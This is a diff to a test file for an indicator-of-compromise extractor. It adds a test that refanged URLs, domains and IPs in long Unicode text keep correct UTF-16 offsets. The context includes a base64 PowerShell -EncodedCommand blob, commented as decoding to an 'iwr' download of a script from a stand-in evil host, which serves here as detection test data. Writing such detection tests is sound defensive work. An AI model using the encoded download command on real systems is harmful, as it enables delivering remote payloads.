@@ -27,6 +27,15 @@ test("extractIocs returns refanged values, originals and UTF-16 offsets", () => 
   assert.deepEqual(found[0].decoded, []);
 });
 
+test("long texts (handed over as UTF-8 bytes) keep UTF-16 offsets", () => {
+  const line = "ça → hxxps://évil[.]example[.]com/ü?q=1 😀 from 10.0.0.1\n";
+  const text = line.repeat(200); // > 4096 UTF-16 units
+  const found = extractIocs(text);
+  assert.equal(found.length, 200 * 3);
+  for (const m of found) assert.equal(text.slice(m.start, m.end), m.original);
+  assert.deepEqual(found.slice(-3).map((m) => m.value), ["https://évil.example.com/ü?q=1", "évil.example.com", "10.0.0.1"]);
+});
+
 test("decoded matches name their decoding chain", () => {
   // PowerShell -EncodedCommand of "iwr http://evil.example.com/a.ps1".
   const blob = "aQB3AHIAIABoAHQAdABwADoALwAvAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAC4AYwBvAG0ALwBhAC4AcABzADEA";
